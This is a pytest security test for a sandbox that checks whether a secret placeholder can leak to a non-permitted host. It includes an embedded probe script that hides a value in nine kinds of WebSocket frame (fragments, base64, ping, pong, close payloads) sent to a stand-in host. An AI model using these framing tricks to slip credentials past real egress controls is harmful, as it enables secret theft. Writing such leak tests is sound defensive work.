"""A placeholder in the frames of a WebSocket, those that no program shows among them."""

from __future__ import annotations

import base64
import socket
import struct
from contextlib import suppress

import pytest

from paddock import Sandbox
from security.attack import probe, shell
from security.network.conftest import Hosts
from security.network.inside import alerts
from security.network.origins import scripted

VALUE = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
FRAMES = """
import base64, os, socket, struct
def frame(opcode, data, fin=True):
    mask = os.urandom(4)
    size = bytes([0x80 | len(data)])
    if len(data) > 125:
        size = bytes([0xfe]) + struct.pack("!H", len(data))
    masked = bytes(c ^ mask[i % 4] for i, c in enumerate(data))
    return bytes([0x80 * fin | opcode]) + size + mask + masked
def websocket(host, *frames):
    sock = socket.create_connection((host, 80), 20)
    lines = ["GET /ws HTTP/1.1", f"Host: {host}", "Upgrade: websocket", "Connection: Upgrade",
             "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "", ""]
    sock.sendall("\\r\\n".join(lines).encode())
    answer = b""
    while b"\\r\\n\\r\\n" not in answer:
        answer += sock.recv(4096)
    head, _, answer = answer.partition(b"\\r\\n\\r\\n")
    sock.sendall(b"".join(frames))
    try:
        while more := sock.recv(4096):
            answer += more
    except OSError:
        pass
    return base64.b64encode(answer).decode()
raw = sys.argv[2].encode()
half = len(raw) // 2
ways = {
    "text": [frame(1, raw)],
    "binary": [frame(2, b"x" + raw)],
    "fragments": [frame(1, raw[:half], False), frame(0, raw[half:])],
    "two messages": [frame(1, raw[:half]), frame(1, raw[half:])],
    "base64": [frame(1, base64.b64encode(raw))],
    "ping": [frame(9, raw)],
    "pong": [frame(10, raw)],
    "farewell": [frame(8, struct.pack("!H", 1000) + raw)],
    "ping between fragments": [frame(1, raw[:half], False), frame(9, b"x"), frame(0, raw[half:])],
}
for name, frames in ways.items():
    found[name] = websocket(sys.argv[1], *frames, frame(8, struct.pack("!H", 1000)))
"""


def echo_frames(sock: socket.socket, heard: bytearray) -> None:
    """A WebSocket server that keeps what it hears, unmasked, and says goodbye."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(4096)
    sock.sendall(b"HTTP/1.1 101 Yes\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")  # fmt: skip
    data = data.partition(b"\r\n\r\n")[2]
    with suppress(OSError):
        while True:
            while len(data) < 2 or len(data) < _frame_size(data):
                more = sock.recv(4096)
                if not more:
                    return
                data += more
            start = 2 if data[1] & 127 < 126 else 4
            size, mask = _frame_size(data), data[start : start + 4]
            body = bytes(c ^ mask[i % 4] for i, c in enumerate(data[start + 4 : size]))
            heard += body
            if data[0] & 15 == 8:
                sock.sendall(b"\x88\x02\x03\xe8")
                return
            data = data[size:]


def _frame_size(data: bytes) -> int:
    size = data[1] & 127
    if size == 126:
        return 8 + int(struct.unpack("!H", data[2:4])[0]) if len(data) >= 4 else 1 << 20
    return 6 + size


def test_a_placeholder_does_not_leave_in_a_websocket(
    hosts: Hosts, monkeypatch: pytest.MonkeyPatch
) -> None:
    heard = bytearray()
    monkeypatch.setenv("ATTACKED_KEY", VALUE)
    with scripted(lambda sock: echo_frames(sock, heard)) as origin:
        network = {
            "allow": ["api.example:80", "ws.example:80"],
            "hosts": {"api.example": hosts.api.place, "ws.example": origin.place},
        }
        secrets = {"API_KEY": {"from": "env:ATTACKED_KEY", "to": ["api.example"]}}
        with Sandbox.create(network=network, secrets=secrets) as box:
            placeholder = shell(box, "printenv API_KEY").stdout.strip()
            assert probe(box, FRAMES, "ws.example", "hello")
            assert heard.count(b"hello") >= 6
            heard.clear()
            probe(box, FRAMES, "ws.example", placeholder)
            assert placeholder.encode() not in heard
            assert base64.b64encode(placeholder.encode())[:20] not in heard
            assert {"secret": "API_KEY", "host": "ws.example", "port": 80} in alerts(
                box, "secret.misplaced"
            )
